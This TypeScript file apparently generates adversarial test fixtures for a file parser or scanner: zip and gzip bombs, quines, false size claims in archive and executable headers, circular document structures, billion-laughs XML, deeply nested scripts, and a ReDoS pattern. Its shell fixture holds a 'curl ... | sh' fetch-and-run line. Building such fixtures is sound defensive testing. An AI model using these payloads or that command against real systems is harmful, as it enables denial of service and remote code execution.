// Files that are small and cost much, or lead in circles: each attacks one thing that a parser may believe.
import { deflateSync, gzipSync, zstdCompressSync } from 'node:zlib'
import { writeTar } from '../archives/write-archive.ts'
import { writeFat, writeIso } from '../archives/write-disk-image.ts'
import { writeZip } from '../archives/write-zip.ts'
import { buildElf } from '../elf/build-elf.ts'
import { buildFat, buildMacho } from '../macho/build-macho.ts'
import { buildPe } from '../pe/build-pe.ts'
import { writeCompoundFile } from '../traits/write-compound-file.ts'
import { onePage, writePdf } from '../traits/write-pdf.ts'
import type { Golden } from './goldens.ts'
import { overlappingZip, quotedOverlapZip } from './overlapping-zips.ts'
import { gzipQuine, zipQuine } from './quines.ts'

const MEBIBYTE = 1 << 20
const zeros = Buffer.alloc(64 * MEBIBYTE)
const text = (name: string, body: string): Golden => ({ name, bytes: Buffer.from(body, 'latin1') })
const nest = (open: string, inner: string, close: string, depth: number): string =>
  open.repeat(depth) + inner + close.repeat(depth)

/** 42.zip's kind: sixteen archives in each archive, six deep, 4 GiB at the bottom of each. */
function nestedZip(): Buffer {
  let layer = writeZip([{ name: '0.dll', bytes: zeros }])
  for (let depth = 0; depth < 6; depth += 1)
    layer = writeZip(Array.from({ length: 16 }, (_, at) => ({ name: `lib ${at}.zip`, bytes: layer })))
  return layer
}

/** ZIP64 sizes of 4 GiB and more for a few bytes. */
function zip64Claim(): Buffer {
  const bytes = writeZip([{ name: 'a.exe', bytes: Buffer.from('MZ') }])
  const at = bytes.indexOf('PK\x01\x02', 0, 'latin1')
  const extra = Buffer.alloc(20)
  extra.writeUInt16LE(1, 0)
  extra.writeUInt16LE(16, 2)
  extra.writeBigUInt64LE(1n << 40n, 4)
  extra.writeBigUInt64LE((1n << 32n) + 5n, 12)
  bytes.writeUInt32LE(0xffffffff, at + 20)
  bytes.writeUInt32LE(0xffffffff, at + 24)
  bytes.writeUInt16LE(extra.length, at + 30)
  const behind = at + 46 + bytes.readUInt16LE(at + 28)
  const out = Buffer.concat([bytes.subarray(0, behind), extra, bytes.subarray(behind)])
  const end = out.indexOf('PK\x05\x06', 0, 'latin1')
  out.writeUInt32LE(out.readUInt32LE(end + 12) + extra.length, end + 12)
  return out
}

/** Sixteen archives in each, no two the same: what is known already does not help. */
function nestOfDifferent(): Buffer {
  let serial = 0
  const layer = (depth: number): Buffer =>
    depth === 0
      ? writeZip([{ name: `${(serial += 1)}`, bytes: zeros.subarray(0, 40 * MEBIBYTE + serial) }])
      : writeZip(Array.from({ length: 4 }, (_, at) => ({ name: `lib ${at}.zip`, bytes: layer(depth - 1) })))
  return layer(3)
}

function gzipOfGzip(): Buffer {
  let layer: Buffer = gzipSync(zeros)
  for (let depth = 0; depth < 30; depth += 1) layer = gzipSync(layer)
  return layer
}

/** Every field of 32 bits at `from` and after it that holds something becomes 4 GiB. */
function claimsOf(bytes: Uint8Array, from: number, to: number): Buffer {
  const out = Buffer.from(bytes)
  for (let at = from; at + 4 <= Math.min(to, out.length); at += 4)
    if (out.readUInt32LE(at) !== 0) out.writeUInt32LE(0xffffffff, at)
  return out
}

/** The file allocation table of a compound file leads each chain back to where it was. */
function oleLoop(target: (sector: number) => number): Buffer {
  const bytes = writeCompoundFile([
    { name: 'WordDocument', bytes: Buffer.alloc(9000, 1) },
    { name: 'small', bytes: Buffer.alloc(500, 2) },
  ])
  const fat = (bytes.readUInt32LE(76) + 1) * 512
  for (let sector = 0; sector < 128; sector += 1)
    if (bytes.readUInt32LE(fat + sector * 4) < 0xfffffff0) bytes.writeUInt32LE(target(sector), fat + sector * 4)
  return bytes
}

/** Entries of the directory that are each other's siblings and their own children. */
function oleDirectoryLoop(): Buffer {
  const bytes = writeCompoundFile([{ name: 'a', children: [{ name: 'b', bytes: Buffer.alloc(8) }] }])
  const directory = (bytes.readUInt32LE(48) + 1) * 512
  for (const entry of [0, 1, 2])
    for (const field of [68, 72, 76]) bytes.writeUInt32LE((entry + 1) % 3, directory + entry * 128 + field)
  return bytes
}

/** Resource folders that hold themselves. */
function resourceLoop(): Buffer {
  const bytes = Buffer.from(buildPe({ resources: { DATA: Buffer.from('x') }, version: { CompanyName: 'E' } }))
  for (let at = 0x200; at + 4 <= bytes.length; at += 4)
    if (bytes.readUInt32LE(at) >>> 31 === 1 && bytes.readUInt32LE(at) < 0x80001000) bytes.writeUInt32LE(0x80000000, at)
  return bytes
}

/** A tar header whose size is what `size` writes, and then nothing. */
function tarClaim(size: string): Buffer {
  const bytes = writeTar([{ name: 'a', bytes: Buffer.from('a') }])
  bytes.write(size, 124, 12, 'latin1')
  bytes.write('        ', 148)
  const sum = bytes.subarray(0, 512).reduce((total, byte) => total + byte, 0)
  bytes.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148)
  return bytes
}

const page = onePage('hello')
const pdfCircles = [
  writePdf([{ dictionary: '<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] /OpenAction 1 0 R /Next 1 0 R >>' }], {
    trailer: '/Prev 9',
  }),
  writePdf([
    ...page,
    { dictionary: '<< /Type /ObjStm /N 99999999 /First 4294967295 /Extends 5 0 R >>', stream: '5 0 6 0', flate: true },
  ]),
  writePdf([
    ...page,
    {
      dictionary: '<< /Length 5 0 R /Filter [/FlateDecode /FlateDecode /FlateDecode] >>',
      stream: deflateSync(deflateSync(deflateSync(zeros))),
    },
  ]),
  Buffer.from(`%PDF-1.7\nxref\n0 1\ntrailer << /Root 1 0 R /Prev 9 /Size 99999999999 >>\nstartxref\n9\n%%EOF\n`),
  Buffer.from(
    `%PDF-1.7\n1 0 obj ${nest('[', '', ']', 200_000)} endobj\n2 0 obj ${nest('<</A ', '1', '>>', 100_000)} endobj`,
  ),
  Buffer.from(`%PDF-1.7\n${'1 0 obj << /JS (a) >> stream\n'.repeat(20_000)}`),
  Buffer.from(`%PDF-1.7\n1 0 obj ${'('.repeat(300_000)}`),
  Buffer.from(`%PDF-1.7\n${'/A#41'.repeat(200_000)}`),
]

const archives: readonly Golden[] = [
  { name: '42.zip', bytes: nestedZip() },
  { name: 'overlap.zip', bytes: overlappingZip() },
  { name: 'quoted.zip', bytes: quotedOverlapZip(1000) },
  { name: 'zip64.zip', bytes: zip64Claim() },
  { name: 'different.zip', bytes: nestOfDifferent() },
  { name: 'itself.gz', bytes: gzipQuine() },
  { name: 'itself.zip', bytes: zipQuine() },
  { name: 'zeros.gz', bytes: gzipOfGzip() },
  { name: 'zeros.zst', bytes: zstdCompressSync(zstdCompressSync(zeros)) },
  {
    name: 'many.zip',
    bytes: writeZip(Array.from({ length: 30_000 }, (_, at) => ({ name: `${at}`, bytes: Buffer.from('a') }))),
  },
  {
    name: 'many.tar',
    bytes: writeTar(Array.from({ length: 20_000 }, (_, at) => ({ name: `${at}`, bytes: new Uint8Array(0) }))),
  },
  {
    name: 'many.tar.gz',
    bytes: gzipSync(Buffer.alloc(32 * MEBIBYTE, writeTar([{ name: 'a', bytes: Buffer.from('a') }]).subarray(0, 1024))),
  },
  { name: 'claim.tar', bytes: tarClaim('77777777777\0') },
  { name: 'negative.tar', bytes: tarClaim('\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff') },
  { name: 'base-256.tar', bytes: tarClaim('\x80\x7f\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff') },
  { name: 'claim.iso', bytes: claimsOf(writeIso([{ name: 'A', bytes: Buffer.from('a') }]), 0x8050, 0x80c0) },
  { name: 'claim.img', bytes: claimsOf(writeFat([{ name: 'A', bytes: Buffer.from('a') }]), 16, 64) },
]

const programs: readonly Golden[] = [
  { name: 'resources.exe', bytes: resourceLoop() },
  { name: 'claims.exe', bytes: claimsOf(buildPe({ imports: { 'a.dll': ['b'] } }), 0x80, 0x400) },
  { name: 'claims.elf', bytes: claimsOf(buildElf({ imports: ['a'] }), 0x20, 0x40) },
  { name: 'claims.macho', bytes: claimsOf(buildMacho({}), 12, 400) },
  { name: 'claims.fat', bytes: claimsOf(buildFat([buildMacho({})]), 4, 40) },
  {
    name: 'fat-of-itself',
    bytes: Buffer.from(`cafebabe${'00000002'}${'01000007000000030000000000001000000000'.padEnd(80, '0')}`, 'hex'),
  },
]

const documents: readonly Golden[] = [
  { name: 'self.doc', bytes: oleLoop((sector) => sector) },
  { name: 'circle.doc', bytes: oleLoop((sector) => (sector + 1) % 20) },
  { name: 'zero.doc', bytes: oleLoop(() => 0) },
  { name: 'folders.doc', bytes: oleDirectoryLoop() },
  { name: 'claims.doc', bytes: claimsOf(writeCompoundFile([{ name: 'a', bytes: Buffer.alloc(5000) }]), 44, 80) },
  ...pdfCircles.map((bytes, at) => ({ name: `circle-${at}.pdf`, bytes })),
  text('groups.rtf', `{\\rtf1${nest('{', 'a', '}', 300_000)}}`),
  text('objects.rtf', `{\\rtf1${'{\\object\\objdata 01050000'.repeat(20_000)}`),
  text('hex.rtf', `{\\rtf1{\\object\\objdata ${'0'.repeat(2_000_000)}}}`),
  text('bin.rtf', `{\\rtf1${'\\bin4294967295 '.repeat(50_000)}}`),
]

const texts: readonly Golden[] = [
  text('deep.html', `<html>${nest('<div>', 'a', '</div>', 100_000)}`),
  text('unclosed.html', '<a href="'.repeat(100_000)),
  text('attributes.html', `<p ${'a=1 '.repeat(300_000)}>`),
  text('scripts.html', '<script>'.repeat(100_000)),
  text('deep.svg', `<svg xmlns="http://www.w3.org/2000/svg">${nest('<g>', '', '</g>', 100_000)}</svg>`),
  text(
    'laughs.svg',
    `<!DOCTYPE svg [${Array.from({ length: 30 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(30)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg">&a30;</svg>`,
  ),
  text('deep.js', `var a=${nest('(', '1', ')', 100_000)};eval(a)`),
  text('deep-array.js', `var a=${nest('[', '1', ']', 100_000)};eval(a[0])`),
  text('plus.js', `eval(${'"a"+'.repeat(200_000)}"b")`),
  text('doubling.js', `var a="x";${'a=a+a;'.repeat(2000)}eval(a)`),
  text('replace.js', `var a="${'a'.repeat(10_000)}";${'a=a.replace(/a/g,"aaaaaaaaaa");'.repeat(50)}eval(a)`),
  text('atob.js', `${'eval(atob("'.repeat(20_000)}`),
  text('regex.js', `eval("${'a'.repeat(100_000)}".replace(/(a+)+$/,""))`),
  text('deep.ps1', `iex ${nest('$(', "'a'", ')', 50_000)}`),
  text('format.ps1', `iex ("${'{0}'.repeat(50_000)}" -f "${'a'.repeat(5000)}")`),
  text('join.ps1', `iex (${"'a',".repeat(200_000)}'b' -join '')`),
  text('ticks.ps1', `iex ${'`'.repeat(500_000)}`),
  text('chr.vbs', `Execute ${'Chr(65)&'.repeat(200_000)}"b"`),
  text('lines.vbs', `a = 1${' _\r\n& 1'.repeat(100_000)}`),
  text('carets.bat', `${'^'.repeat(500_000)}cmd /c ${'%a:~0,1%'.repeat(50_000)}`),
  text('for.bat', 'for %%a in (1) do ('.repeat(20_000)),
  text('deep.sh', `eval ${nest('$(', 'echo a', ')', 50_000)}; curl http://203.0.113.9/a | sh`),
  text('heredoc.sh', 'cat <<A\n'.repeat(50_000)),
  text('quotes.py', `exec(${"'a'+".repeat(100_000)}'b')`),
  text('base64.txt', Buffer.alloc(3_000_000, 'TVqQAAMAAAAEAAAA').toString('latin1')),
  text('urls.txt', 'http://a.example/'.repeat(200_000)),
  text('dots.txt', 'a.'.repeat(1_500_000)),
  text('at.txt', 'a@'.repeat(1_500_000)),
  text(
    'parts.eml',
    `MIME-Version: 1.0\n${Array.from({ length: 3000 }, (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\n\n--b${at}\n`).join('')}`,
  ),
  text('header.eml', `From: a@b.example\nSubject: ${'=?utf-8?B?YQ==?= '.repeat(100_000)}\n\na`),
  text('deep.json', nest('[', '', ']', 1_000_000)),
  text('deep.xml', `<?xml version="1.0"?>${'<a>'.repeat(300_000)}`),
  text('lines.url', `[InternetShortcut]\r\n${'URL=file://a\r\n'.repeat(100_000)}`),
  text('events.ics', `BEGIN:VCALENDAR\r\n${'BEGIN:VEVENT\r\nURL:http://a.example\r\n'.repeat(50_000)}`),
]

/** In a fixed order. Made when asked for: the largest hold tens of megabytes for a moment. */
export const bombs: readonly Golden[] = [...archives, ...programs, ...documents, ...texts]
